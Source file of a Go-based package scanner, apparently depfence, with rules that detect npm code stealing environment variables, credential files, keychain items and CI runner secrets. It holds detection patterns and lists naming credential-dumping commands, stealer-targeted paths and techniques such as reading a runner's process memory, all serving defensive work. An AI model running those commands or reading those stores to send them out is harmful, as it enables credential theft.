// Package cred holds rules about credential and secret access.
package cred

import (
	"cmp"
	"context"
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"github.com/tdewolff/parse/v2/js"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// EnvHarvest flags bulk or secret-targeted environment reads.
type EnvHarvest struct{}

// Meta implements analyze.Rule.
func (EnvHarvest) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "cred/env-harvest", Version: 15, Title: "Harvests environment variables",
		Help: "The code serialises or iterates the whole process.env (which holds CI tokens, cloud keys and registry credentials), or reads " +
			"several token-named variables, by name or through a list of names (process.env[k] for each k; in a file over 64 KiB only " +
			"names within 2,000 bytes of that read count). Critical when the whole " +
			"environment goes into what a request sends (a fetch body, https.request(...).end(...), a beacon), in any file, also when it crosses " +
			"the package's modules: handed to another module's function that sends it, or returned by one to a module that sends it " +
			"(index.js calling send(collect()) over three files). Across modules, the destination must be the code's own (a constant or " +
			"decoded URL, a bare IP address); to one set at run time, as a crash reporter's opt-in environment goes to the DSN its user " +
			"configures, it is medium. " +
			"Iterating it (Object.keys, for...in) is low in a file that neither makes network calls nor runs at install: config loaders " +
			"look for their own prefix that way. Serialising it (JSON.stringify, also as one field of an object) in a file that starts " +
			"processes but makes no network call, outside install, is medium: a task runner handing it to its child. Names filtered by a constant test (Object.keys(process.env).filter(k => /^debug_/i.test(k)), " +
			"as the debug module does) are not reported, unless the test selects secret names (/TOKEN|SECRET/): medium. " +
			"Object.assign(process.env, …) writes to it and is not a read, and http.setGlobalProxyFromEnv(process.env) reads the proxy settings. Install-time code that puts one token-named variable " +
			"(NPM_TOKEN, GITHUB_TOKEN…) into a request to a constant URL on a host that is not a registry or a known service is critical. " +
			"Install-time code that reads ACTIONS_ID_TOKEN_REQUEST_TOKEN or _URL (what a GitHub Actions job mints its OIDC identity " +
			"token with, which registries and clouds accept as the repository) and sends to such a host is critical too. Code that " +
			"reads ACTIONS_RUNTIME_TOKEN (the key to GitHub's cache and artifact services, whose URLs come with it) and sends to " +
			"such a host is high anywhere; a call of the file's request helper with a constant URL counts as a request. " +
			"Anywhere, a platform's token (NPM_TOKEN, NODE_AUTH_TOKEN; GITHUB_TOKEN, GH_TOKEN; AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN; " +
			"GITLAB_TOKEN) put into a request to a constant host that is neither that platform's nor a registry the scan knows is " +
			"critical: those tokens have no other use. The token is followed across functions and modules, as the environment is " +
			"(a getter of another module returning it, an argument of the file's own request helper), and the destination may be " +
			"the constant host handed along with it (get(\"stats.example\", { \"x-id\": token })). " +
			"Passing {...process.env} to a child process is normal and not reported.",
		Remediation:     "Check where the values go; rotate the exposed tokens if the package ran in CI.",
		Example:         `fetch(url, { method: "POST", body: JSON.stringify(process.env) })`,
		DefaultSeverity: finding.SeverityMedium, Signal: analyze.SigEnv, Needs: analyze.NeedCode,
	}
}

// discordToken matches the regular expressions stealers use to find
// Discord tokens in leveldb files.
var discordToken = regexp.MustCompile(`\[\\w-\]\{2[34]\}\\\.\[\\w-\]\{6\}\\\.\[\\w-\]\{2[57]|mfa\\\.\[\\w-\]\{84\}`)

// envName is an environment variable's conventional spelling.
var envName = regexp.MustCompile(`^[A-Z][A-Z0-9]*(_[A-Z0-9]+)+$`)

// envUses reports whether the file puts the whole environment into a
// request (sent) and reads process.env with a computed key (indexed).
func envUses(f *jsast.Facts) (sent, indexed bool) {
	for _, e := range f.Env {
		sent = sent || strings.HasPrefix(e.How, "sent:")
		indexed = indexed || e.How == "index"
	}
	return sent, indexed
}

// Check implements analyze.Rule.
func (EnvHarvest) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		var tokens []string
		line, snip := 0, ""
		seen := map[string]bool{}
		token := func(name string, p jsast.Pos, snippet jsast.Snippet) {
			if seen[name] {
				return
			}
			seen[name] = true
			tokens = append(tokens, name)
			if line == 0 {
				line, snip = p.Line, snippet.String()
			}
		}
		sent, indexed := envUses(f.Facts)
		reported := false
		network := false
		for _, c := range f.Facts.Calls {
			if rulekit.IsNetCall(c) {
				network = true
				break
			}
		}
		// the object itself in a request's body first: it says more than
		// whatever use of the environment the walk met before it
		for _, e := range f.Facts.Env {
			if e.Name == "" && strings.HasPrefix(e.How, "sent:") {
				reported = true
				msg := fmt.Sprintf("sends the whole environment over the network (%s)", strings.TrimPrefix(e.How, "sent:"))
				sev := finding.SeverityCritical
				if len(f.Facts.EnvFrom) > 0 {
					// another module hands it over (analyze links them):
					// to a host of the code's own, theft; to one the
					// caller configures, a crash reporter's opt-in
					if host := cmp.Or(rulekit.SentHost(t, f.Facts), decodedHost(t, f.Facts)); host != "" {
						msg += " to " + host
					} else {
						sev = finding.SeverityMedium
						msg += " to a destination set at run time"
					}
					msg += "; it comes from " + strings.Join(f.Facts.EnvFrom, ", ")
				}
				r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: sev, Confidence: finding.ConfidenceHigh,
					Message: msg, Evidence: rulekit.Ev(e.Snippet.String(), "", "")})
				break
			}
		}
		for _, e := range f.Facts.Env {
			if test, ok := strings.CutPrefix(e.How, "filter:"); ok {
				// names picked by a constant test: a prefix (DEBUG_,
				// STORYBOOK_) is configuration; a test for secret names
				// collects every token the machine has
				if jsast.SecretName(test) && !reported {
					reported = true
					r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: finding.SeverityMedium, Confidence: finding.ConfidenceHigh,
						Message: "selects secret-named environment variables by pattern " + jsast.Clean(test, 80), Evidence: rulekit.Ev(e.Snippet.String(), "", "")})
				}
				continue
			}
			if e.Name == "" {
				how := e.How
				bulk := how == "iterate" || how == "object" || strings.HasSuffix(how, "stringify") || strings.HasSuffix(how, "encode") || strings.HasSuffix(how, "btoa") || strings.HasPrefix(how, "arg:JSON.stringify") || strings.HasPrefix(how, "arg:Object.") ||
					strings.HasPrefix(how, "arg:fetch") || strings.Contains(how, "http") || strings.Contains(how, "axios") || strings.HasSuffix(how, ".write") || strings.HasSuffix(how, ".send")
				// http.setGlobalProxyFromEnv(env): the module configured
				// from the proxy variables
				bulk = bulk && !strings.HasSuffix(how, "FromEnv")
				if strings.HasPrefix(how, "sent:") {
					continue // reported above: no co-occurrence guess, whatever the file's size
				}
				if bulk && !reported && !sent {
					reported = true
					sev := finding.SeverityHigh
					switch {
					case (how == "arg:Object.assign" || how == "object") && spawns(f.Facts):
						// a copy to change a few variables: the environment
						// of a child process (sending the copy is "sent:")
						sev = finding.SeverityLow
					case how == "arg:JSON.stringify" && spawns(f.Facts) && !network && t.Role(f.Name) != analyze.RoleInstall:
						// serialised for a child process of the tool (a
						// task runner's stdin), with no network call here
						sev = finding.SeverityMedium
					case (how == "iterate" || strings.HasPrefix(how, "arg:Object.")) && !network && t.Role(f.Name) != analyze.RoleInstall:
						// config loaders and debug loggers walk the
						// environment for their own prefix; with nothing
						// that could send it, that is all this file can do
						sev = finding.SeverityLow
					case how == "iterate" || strings.HasPrefix(how, "arg:Object.") || how == "object" && !network:
						sev = finding.SeverityMedium // config scanners iterate env
					}
					r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: sev, Confidence: finding.ConfidenceHigh,
						Message: fmt.Sprintf("reads the whole environment (%s)", strings.TrimPrefix(how, "arg:")), Evidence: rulekit.Ev(e.Snippet.String(), "", "")})
				}
				continue
			}
			if jsast.SecretName(e.Name) {
				if strings.HasPrefix(e.How, "sent:") && !reported && t.Role(f.Name) == analyze.RoleInstall {
					// a token in what install-time code sends to a host
					// that is not a registry or a known service
					if host := sentTo(t, f.Facts, e); host != "" {
						reported = true
						r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh, Signal: analyze.SigExfil,
							Message: fmt.Sprintf("sends %s to %s at install time", e.Name, host), Evidence: rulekit.Ev(e.Snippet.String(), "", "")})
						continue
					}
				}
				if strings.HasPrefix(e.How, "sent:") && !reported {
					// a platform's token sent somewhere that is not that
					// platform (NPM_TOKEN in a header to a stats host)
					host := sentTo(t, f.Facts, e)
					if host == "" && len(f.Facts.DataFrom) > 0 {
						host = cmp.Or(rulekit.SentHost(t, f.Facts), decodedHost(t, f.Facts), linkedDest(t, f.Facts))
					}
					if p := platformOf(e.Name); p != nil && host != "" && !p.owns(host) {
						reported = true
						msg := fmt.Sprintf("sends %s, a token of %s, to %s", e.Name, p.name, host)
						if len(f.Facts.DataFrom) > 0 {
							msg += "; it comes from " + strings.Join(f.Facts.DataFrom, ", ")
						}
						r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceMedium, Signal: analyze.SigExfil,
							Message: msg, Evidence: rulekit.Ev(e.Snippet.String(), e.Name, host)})
						continue
					}
				}
				token(e.Name, e.Pos, e.Snippet)
			}
		}
		if !reported && t.Role(f.Name) != analyze.RoleInstall {
			if e, host := runnerTokenSent(t, f.Facts); host != "" {
				// the token of GitHub's own cache and artifact services,
				// whose URLs come with it in the environment: nothing
				// else has a use for it
				reported = true
				r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: finding.SeverityHigh, Confidence: finding.ConfidenceHigh,
					Message:  fmt.Sprintf("reads the CI runner's %s and sends to %s", e.Name, host),
					Evidence: rulekit.Ev(e.Snippet.String(), e.Name, host)})
				continue
			}
		}
		if !reported && t.Role(f.Name) == analyze.RoleInstall {
			if e, host := oidcTheft(t, f.Facts); host != "" {
				reported = true
				r.Report(analyze.Instance{File: f.Name, Line: e.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh, Signal: analyze.SigExfil,
					Message:  fmt.Sprintf("requests the CI job's OIDC identity token (%s) at install time and sends to %s", e.Name, host),
					Evidence: rulekit.Ev(e.Snippet.String(), e.Name, host)})
				continue
			}
		}
		if indexed {
			// for (const k of ["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]) process.env[k];
			// in a bundle, only names next to the read (an SDK's enum of
			// auth types, "API_KEY_AUTH", is not a list of variables)
			var at []jsast.Pos
			for _, e := range f.Facts.Env {
				if e.How == "index" {
					at = append(at, e.Pos)
				}
			}
			for _, s := range f.Facts.Strings {
				if envName.MatchString(s.Value) && jsast.SecretName(s.Value) && (f.Facts.Size <= rulekit.ModuleSize || rulekit.Near(s.Pos, at)) {
					token(s.Value, s.Pos, s.Snippet)
				}
			}
		}
		if len(tokens) > 0 {
			sev := finding.SeverityLow
			if len(tokens) >= 3 {
				sev = finding.SeverityMedium
			}
			if len(tokens) > 6 {
				tokens = append(tokens[:6], "…")
			}
			r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Message: "reads secret-named environment variables: " + strings.Join(tokens, ", "), Evidence: rulekit.Ev(snip, "", "")})
		}
	}
	return nil
}

// platform is a service whose tokens have one use: requests to its own
// hosts.
type platform struct {
	name    string
	vars    []string
	domains []string
}

// platforms are the services whose tokens stealers want most.
var platforms = []platform{
	// (the registries the scan knows are trusted already; GitHub's is
	// npm.pkg.github.com)
	{"npm", []string{"NPM_TOKEN", "NODE_AUTH_TOKEN", "NPM_AUTH_TOKEN", "NPM_CONFIG__AUTH"}, []string{"github.com"}},
	{"GitHub", []string{"GITHUB_TOKEN", "GH_TOKEN", "GITHUB_PAT", "GH_ENTERPRISE_TOKEN", "GITHUB_API_TOKEN"}, []string{"github.com", "githubusercontent.com", "ghe.com"}},
	{"AWS", []string{"AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_ACCESS_KEY_ID"}, []string{"amazonaws.com", "aws.amazon.com", "api.aws"}},
	{"GitLab", []string{"GITLAB_TOKEN", "CI_JOB_TOKEN", "GL_TOKEN"}, []string{"gitlab.com"}},
}

// platformOf returns the platform a variable holds a token of, nil if none.
func platformOf(name string) *platform {
	for i := range platforms {
		if slices.Contains(platforms[i].vars, name) {
			return &platforms[i]
		}
	}
	return nil
}

// owns reports a host of the platform (or a subdomain of one).
func (p *platform) owns(host string) bool {
	host = strings.ToLower(host)
	return slices.ContainsFunc(p.domains, func(d string) bool { return host == d || strings.HasSuffix(host, "."+d) })
}

// decodedHost returns the host of an external URL the file decodes
// (base64, char codes: a destination kept out of sight) or names by a
// bare public IP address; "" if none.
func decodedHost(t *analyze.Target, f *jsast.Facts) string {
	for _, s := range f.Strings {
		if len(s.Value) > 2048 || s.Pattern {
			continue
		}
		if u := rulekit.ExternalURL(t, s.Value); u != "" && (s.Decoded || rulekit.PublicIP(rulekit.Host(u))) {
			return rulekit.Host(u)
		}
	}
	return ""
}

// oidcTheft returns the read of the variable that lets a GitHub Actions
// job mint an OIDC identity token (with which registries, clouds and
// trusted publishing accept it as the repository), and the host of a
// constant URL the file sends to that is not trusted for the package;
// "" when the file does not do both.
func oidcTheft(t *analyze.Target, f *jsast.Facts) (jsast.EnvRead, string) {
	var read jsast.EnvRead
	for _, e := range f.Env {
		if e.Name == "ACTIONS_ID_TOKEN_REQUEST_TOKEN" || e.Name == "ACTIONS_ID_TOKEN_REQUEST_URL" {
			read = e
			break
		}
	}
	if read.Name == "" {
		return read, ""
	}
	for _, c := range f.Calls {
		if !rulekit.IsNetCall(c) {
			continue
		}
		for _, a := range c.Args {
			if u := rulekit.ExternalURL(t, rulekit.Text(a)); u != "" {
				return read, rulekit.Host(u)
			}
		}
	}
	return read, ""
}

// runnerTokenSent returns the read of ACTIONS_RUNTIME_TOKEN and the foreign
// host the file sends to (rulekit.SentHost); "" when it does not do both.
func runnerTokenSent(t *analyze.Target, f *jsast.Facts) (jsast.EnvRead, string) {
	for _, e := range f.Env {
		if e.Name == "ACTIONS_RUNTIME_TOKEN" {
			return e, rulekit.SentHost(t, f)
		}
	}
	return jsast.EnvRead{}, ""
}

// spawns reports a file that starts processes.
func spawns(f *jsast.Facts) bool {
	return slices.ContainsFunc(f.Calls, rulekit.IsSpawn)
}

// sentTo returns the host a request carrying e (an environment variable
// sent: EnvRead.How "sent:<callee>") goes to, when the request's URL is
// constant and its host is not trusted for the package; "" otherwise.
func sentTo(t *analyze.Target, f *jsast.Facts, e jsast.EnvRead) string {
	return callHost(t, f, e.Pos, strings.TrimPrefix(e.How, "sent:"))
}

// FileAccess flags references to credential stores.
type FileAccess struct{}

// Meta implements analyze.Rule.
func (FileAccess) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "cred/file-access", Version: 25, Title: "Reads credential files",
		Help: "A request that carries the content of a credential file (an SSH private key, ~/.aws/credentials, .npmrc, a kubeconfig, " +
			"Docker's config.json, a browser's Login Data…) or the output of a command that prints a stored credential (gh auth token, " +
			"git credential fill) is critical when it goes to a constant host that is not trusted for the package (a decoded URL or a " +
			"bare IP counts, and so does a host handed along with the data; data written to the stdin of a curl or wget uploading to a " +
			"constant URL goes there), and low when the destination is set at run time (a " +
			"package manager sending what .npmrc holds to the registry .npmrc names) or when the file looks the store up as its own tool " +
			"does (it honours the override variable, TF_CLI_CONFIG_FILE, KUBECONFIG…) and sends to a host that is neither an " +
			"exfiltration service nor a bare IP (a Terraform Cloud client sending its token to app.terraform.io). The content is followed through variables, " +
			"objects and the file's own functions, and across the package's modules: returned by one module's function to another " +
			"that sends it, handed as an argument or through a promise, stored into a shared module's exports, or emitted as an event " +
			"another module listens to. A list of names joined to a directory in a loop (for (const f of [\".npmrc\", \".yarnrc\"]) " +
			"read(path.join(home, f))) counts as each of them, and so does a list of path segments ([\".docker\", \"config.json\"]). " +
			"Three stores or more listed in a file that writes to a process's input and holds the arguments that make curl or wget " +
			"upload their input (--data-binary @-, --post-file=/dev/stdin) with a constant URL are critical too. " +
			"Otherwise, the code names a credential store: SSH keys, cloud CLI credentials, .npmrc, browser profiles (Login Data, Cookies, Local Storage), " +
			"crypto wallet files and extension IDs, Discord token storage, /etc/shadow, AI coding assistants' logins (~/.claude/.credentials.json, ~/.codex/auth.json, " +
			"~/.gemini/oauth_creds.json, GitHub Copilot's apps.json and hosts.json). Stealers enumerate exactly these paths. A path named only inside a regular expression literal (a scanner's " +
			"signature, /\\.npmrc|\\.ssh\\/id_rsa/) does not count; a Discord token pattern does. A file that " +
			"also honours the store's own override variable (AWS_SHARED_CREDENTIALS_FILE, KUBECONFIG, CLOUDSDK_CONFIG...) implements that " +
			"tool's lookup, as SDKs do, and is reported at low severity (when it honours the variable of every store it names); stealers do not bother. A config file that can hold a token " +
			"(.npmrc, .yarnrc, .netrc, ~/.ssh as a directory, /etc/passwd) read by a file with no network call and no URL, outside install-time " +
			"code, is low: that is a config reader (a registry setting); high when it is read next to a request to a constant URL on a " +
			"foreign host (package managers send to the registry their configuration names). Running a " +
			"command that prints a stored credential (gh auth token, npm config get …_authToken, aws configure export-credentials, " +
			"gcloud auth print-access-token, security find-generic-password -w or dump-keychain, git credential fill), or that shows a " +
			"fake password dialog (osascript display dialog … with hidden answer), is high at install time and low otherwise (release " +
			"tools ask for the token they then use). So is macOS's security tool run with its subcommand passed apart (find-generic-password " +
			"in an argument array); asking it for another application's key (\"Chrome Safe Storage\", which decrypts that browser's cookies " +
			"and passwords) is high anywhere. A CI runner's memory (/proc/<pid>/mem, Runner.Worker, \"isSecret\":true) counts as a credential store, and a file " +
			"that opens another process's memory and looks for Runner.Worker or \"isSecret\":true in it is critical (the tj-actions " +
			"secret dump), as is one that names Runner.Worker, starts a process (the helper that reads the memory) and searches for " +
			"\"isSecret\":true. The cloud " +
			"instance metadata services' credential paths (AWS's iam/security-credentials, GCP's service-accounts), a " +
			"Kubernetes service-account token and the GitHub CLI's hosts.yml count as credential stores; cloud SDKs that honour their " +
			"own override variables (AWS_EC2_METADATA_DISABLED, GCE_METADATA_HOST, KUBERNETES_SERVICE_HOST…) are low. Install-time " +
			"code that reads the project's .env next to a network call is high. Other tools' logins and sessions count too: Terraform's " +
			"credentials.tfrc.json (low when TF_CLI_CONFIG_FILE is honoured; so is Claude's login with CLAUDE_CONFIG_DIR, Codex's with CODEX_HOME), Telegram Desktop's tdata, 1Password's and Bitwarden's " +
			"data, Slack's cookies. An SSH key named in a file that loads an SSH client library (ssh2, node-ssh…), or of a package that depends on one, and makes no other " +
			"network call, outside install-time code, is low: a deploy tool connecting where its user says. The profile roots of one or two " +
			"browsers alone (Chrome/User Data, Edge/User Data) are where a browser launcher finds a profile: medium, next to a network " +
			"call too, and low when the file honours CHROME_USER_DATA_DIR. A Kubernetes service-account token or a metadata service's " +
			"credential path (one or two of them, nothing else) read by a file that makes no request to a constant host outside this " +
			"machine, outside install-time code, is medium (a cloud SDK's workload identity exchanging it), low when the file honours " +
			"AZURE_FEDERATED_TOKEN_FILE or AWS_WEB_IDENTITY_TOKEN_FILE.",
		Remediation:     "Remove the package unless it is a tool whose job is to manage those credentials.",
		Example:         `fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"))`,
		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigCred, Needs: analyze.NeedCode,
	}
}

// tokenCommand matches commands that print a stored credential: the CLIs
// of GitHub, npm, the clouds, git's credential helper, macOS's keychain.
var tokenCommand = regexp.MustCompile(`(?i)\bgh\s+auth\s+(token\b|status\s+(-t|--show-token)\b)|\bnpm\s+config\s+get\s+\S*_auth(token)?\b|` +
	`\bnpm\s+token\s+(list|ls|create)\b|\baws\s+configure\s+(get\s+aws_secret_access_key|export-credentials)\b|\baws\s+sts\s+get-session-token\b|` +
	`\bgcloud\s+auth\s+(application-default\s+)?print-access-token\b|\baz\s+account\s+get-access-token\b|` +
	`\bsecurity\s+find-(generic|internet)-password\b[^\n]*\s-w\b|\bsecurity\s+dump-keychain\b|\bgit\s+credential\s+fill\b|\bkubectl\s+config\s+view\s+[^\n]*--raw\b|` +
	// a fake system dialog asking for the login password (macOS stealers)
	`\bosascript\b[^\n]*display\s+dialog[^\n]*hidden\s+answer`)

// dotEnvFile matches a path naming a project's .env file.
var dotEnvFile = regexp.MustCompile(`(^|[/\\])\.env(\.[\w-]+)?$`)

// dotEnv reports install-time code that reads the project's .env (where
// its API keys are) in a file that makes network calls. dotenv itself
// reads it at run time and sends nothing.
func dotEnv(f rulekit.File, r analyze.Reporter) {
	reads, network := false, false
	for _, c := range f.Facts.Calls {
		switch rulekit.Last(c.Callee) {
		case "readFile", "readFileSync", "createReadStream":
			reads = true
		}
		network = network || rulekit.IsNetCall(c)
	}
	if !reads || !network {
		return
	}
	for _, s := range f.Facts.Strings {
		if len(s.Value) < 256 && dotEnvFile.MatchString(s.Value) && !strings.Contains(s.Value, "example") {
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityHigh, Confidence: finding.ConfidenceMedium,
				Message: fmt.Sprintf("reads the project's %q at install time, next to a network call", s.Value), Evidence: rulekit.Ev(s.Snippet.String(), "", "")})
			return
		}
	}
}

// tokenCLI reports a spawned command that prints a stored credential, or
// such a command among the strings of a file that starts processes (run
// through a helper: grab("gh auth token")).
func tokenCLI(f rulekit.File, r analyze.Reporter) {
	sev, when := finding.SeverityLow, ""
	if f.Role == analyze.RoleInstall {
		sev, when = finding.SeverityHigh, " at install time"
	}
	spawns := false
	for _, c := range f.Facts.Calls {
		if !rulekit.IsSpawn(c) {
			continue
		}
		spawns = true
		cmd := rulekit.SpawnCommand(c)
		if !tokenHints.In(cmd) {
			continue
		}
		if m := tokenCommand.FindString(cmd); m != "" {
			if strings.HasPrefix(m, "security ") && keychain(f, when, r) {
				// the keychain read with its arguments passed apart (through
				// a wrapper), judged by whose key it asks for
				return
			}
			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev, Confidence: finding.ConfidenceHigh,
				Message: fmt.Sprintf("asks a CLI for a stored credential%s: %s", when, m), Evidence: rulekit.Ev(c.Snippet.String(), cmd, "")})
			return
		}
	}
	if !spawns {
		return
	}
	if keychain(f, when, r) {
		return
	}
	for _, s := range f.Facts.Strings {
		if s.Printed || s.FromFile || len(s.Value) > 1024 || !tokenHints.In(s.Value) {
			continue
		}
		if m := tokenCommand.FindString(s.Value); m != "" {
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: sev, Confidence: finding.ConfidenceMedium,
				Message: fmt.Sprintf("starts processes and carries a command that prints a stored credential%s: %s", when, m), Evidence: rulekit.Ev(s.Snippet.String(), s.Value, "")})
			return
		}
	}
}

// procMem matches another process's memory file: /proc/1234/mem,
// /proc/${pid}/mem.
var procMem = regexp.MustCompile(`^/proc/(\d+|` + regexp.QuoteMeta(jsast.Hole) + `)/mem$`)

// runnerMemory reports a file that opens another process's memory and
// looks for a CI runner's secrets in it (the Runner.Worker process, or
// its "isSecret":true records): how the tj-actions compromise dumped every
// secret of the workflows it ran in. Critical: nothing else reads that.
func runnerMemory(f rulekit.File, r analyze.Reporter) bool {
	var mem *jsast.Call
	for i := range f.Facts.Calls {
		c := &f.Facts.Calls[i]
		switch rulekit.Last(c.Callee) {
		case "open", "openSync", "readFile", "readFileSync", "createReadStream":
			if len(c.Args) > 0 && procMem.MatchString(rulekit.Text(c.Args[0])) {
				mem = c
			}
		}
	}
	if mem == nil {
		return runnerHelper(f, r)
	}
	for _, s := range f.Facts.Strings {
		for _, marker := range []string{"Runner.Worker", `"isSecret":true`} {
			if strings.Contains(s.Value, marker) {
				r.Report(analyze.Instance{File: f.Name, Line: mem.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
					Message:  fmt.Sprintf("reads another process's memory (%s) looking for a CI runner's secrets (%s)", rulekit.Text(mem.Args[0]), marker),
					Evidence: rulekit.Ev(mem.Snippet.String(), "", "")})
				return true
			}
		}
	}
	return false
}

// runnerHelper reports a file that names the runner's Runner.Worker
// process, starts a process (a helper that reads its memory: a python
// script under sudo, gdb, dd) and searches for its "isSecret":true
// records: the tj-actions dump with the reading done out of sight.
func runnerHelper(f rulekit.File, r analyze.Reporter) bool {
	var worker, secret *jsast.Str
	for i := range f.Facts.Strings {
		s := &f.Facts.Strings[i]
		if strings.Contains(s.Value, "Runner.Worker") {
			worker = s
		}
		if strings.Contains(strings.ReplaceAll(s.Value, `\"`, `"`), `"isSecret":true`) {
			secret = s
		}
	}
	if worker == nil || secret == nil {
		return false
	}
	for _, c := range f.Facts.Calls {
		if rulekit.IsSpawn(c) {
			r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
				Message:  fmt.Sprintf("finds the CI runner's Runner.Worker process, starts %q and searches the output for its secrets (\"isSecret\":true)", jsast.Clean(rulekit.SpawnCommand(c), 80)),
				Evidence: rulekit.Ev(c.Snippet.String(), "", "")})
			return true
		}
	}
	return false
}

// keychainReads are the macOS security subcommands that print a stored
// secret (with -w) or the whole keychain.
var keychainReads = map[string]bool{"find-generic-password": true, "find-internet-password": true, "dump-keychain": true}

// keychain reports a file that runs macOS's security tool with its
// arguments passed separately (sec(["find-generic-password", "-w", "-s",
// name])): high at install time, or when the item is another
// application's key ("Chrome Safe Storage" decrypts that browser's
// cookies and saved passwords); low otherwise (a keychain wrapper asking
// for its own item). False when the file does not.
func keychain(f rulekit.File, when string, r analyze.Reporter) bool {
	if !rulekit.RunsProgram(f.Facts, "security") {
		return false
	}
	var read *jsast.Str
	other := ""
	for i := range f.Facts.Strings {
		s := &f.Facts.Strings[i]
		if keychainReads[s.Value] && read == nil {
			read = s
		}
		if other == "" && len(s.Value) < 64 && strings.HasSuffix(s.Value, " Safe Storage") {
			other = s.Value
		}
	}
	if read == nil {
		return false
	}
	sev, msg := finding.SeverityLow, "runs security "+read.Value+when
	switch {
	case other != "":
		sev, msg = finding.SeverityHigh, fmt.Sprintf("runs security %s%s for another application's key (%q)", read.Value, when, other)
	case when != "":
		sev = finding.SeverityHigh
	}
	r.Report(analyze.Instance{File: f.Name, Line: read.Pos.Line, Severity: sev, Confidence: finding.ConfidenceMedium,
		Message: "reads the macOS keychain: " + msg, Evidence: rulekit.Ev(read.Snippet.String(), "", "")})
	return true
}

// tokenHints holds a piece every tokenCommand match contains: most strings
// of a CLI bundle skip the regexp.
var tokenHints = rulekit.NewHints("auth", "token", "configure", "sts ", "password", "keychain", "credential", "--raw", "dialog")

// secretSent reports the first request of the file that carries a
// credential file's content or the output of a command that prints a
// stored credential (jsast.Facts.FileSends): critical to a constant host
// that is not trusted for the package (a decoded or bare-IP destination
// counts), low to one set at run time (a package manager sending the
// token its .npmrc holds to the registry that .npmrc names). False if it
// makes none.
func secretSent(t *analyze.Target, f rulekit.File, r analyze.Reporter) bool {
	for _, s := range f.Facts.FileSends {
		what, store := "", ""
		if cmd, ok := strings.CutPrefix(s.File, "$ "); ok {
			if m := tokenCommand.FindString(cmd); m != "" {
				what = "the output of " + strconv.Quote(jsast.Clean(cmd, 80))
			}
		} else {
			for _, p := range alternatives(s.File) {
				if lvl, m := rulekit.SensitivePath(p); lvl > 0 && !strings.HasSuffix(strings.ToLower(m), "user data") {
					what, store = strconv.Quote(jsast.Clean(s.File, 80)), m
					break
				}
			}
		}
		if what == "" {
			continue
		}
		host := cmp.Or(callHost(t, f.Facts, s.Pos, s.Callee), rulekit.SentHost(t, f.Facts), uploadHost(t, f.Facts), decodedHost(t, f.Facts), linkedDest(t, f.Facts))
		sev, conf := finding.SeverityCritical, finding.ConfidenceHigh
		msg := fmt.Sprintf("sends the content of %s over the network (%s)", what, s.Callee)
		switch {
		case host == "":
			sev, conf = finding.SeverityLow, finding.ConfidenceMedium
			msg += " to a destination set at run time"
		case store != "" && override(f.Facts, store) != "" && rulekit.ExfilService(host) == "" && !rulekit.PublicIP(host):
			// the store's own tool's lookup (it honours the override
			// variable), authenticating to its service
			sev, conf = finding.SeverityLow, finding.ConfidenceMedium
			msg += fmt.Sprintf(" to %s, looking the store up as its own tool does (honours %s)", host, override(f.Facts, store))
		default:
			msg += " to " + host
		}
		if len(f.Facts.DataFrom) > 0 {
			msg += "; it comes from " + strings.Join(f.Facts.DataFrom, ", ")
		}
		r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: sev, Confidence: conf, Signal: analyze.SigExfil,
			Message: msg, Evidence: rulekit.Ev(s.Snippet.String(), "", host)})
		return sev == finding.SeverityCritical
	}
	return false
}

// uploadHost returns the host a curl or wget the file starts uploads to
// (a constant URL among its arguments, not trusted for the package); ""
// if none.
func uploadHost(t *analyze.Target, f *jsast.Facts) string {
	for _, c := range f.Calls {
		if !rulekit.IsSpawn(c) {
			continue
		}
		cmd := rulekit.SpawnCommand(c)
		if p := rulekit.Program(cmd); p != "curl" && p != "wget" {
			continue
		}
		if u := rulekit.ExternalURL(t, cmd); u != "" {
			return rulekit.Host(u)
		}
	}
	return ""
}

// linkedDest returns the host of a destination handed along with what
// linking brought the file (jsast.Facts.DataDest: get("api.example.com",
// { "x-id": token })) when it is neither local nor trusted; "" otherwise.
func linkedDest(t *analyze.Target, f *jsast.Facts) string {
	for _, d := range f.DataDest {
		if strings.Contains(d, "://") {
			d = rulekit.Host(d)
		}
		if h := strings.ToLower(d); h != "" && !rulekit.LocalHost(h) && !rulekit.TrustedFor(t, h) {
			return h
		}
	}
	return ""
}

// alternatives spells out a path with one set of alternatives in braces
// (a file a loop joins with each name of a list: "${…}/{.npmrc,.yarnrc}"),
// at most 32; the path itself otherwise.
func alternatives(p string) []string {
	// the first brace that does not open a hole ("${…}")
	i := -1
	for k := 0; k < len(p) && i < 0; k++ {
		if p[k] == '{' && (k == 0 || p[k-1] != '$') {
			i = k
		}
	}
	j := strings.IndexByte(p[max(i, 0):], '}')
	if i < 0 || j < 0 {
		return []string{p}
	}
	j += i
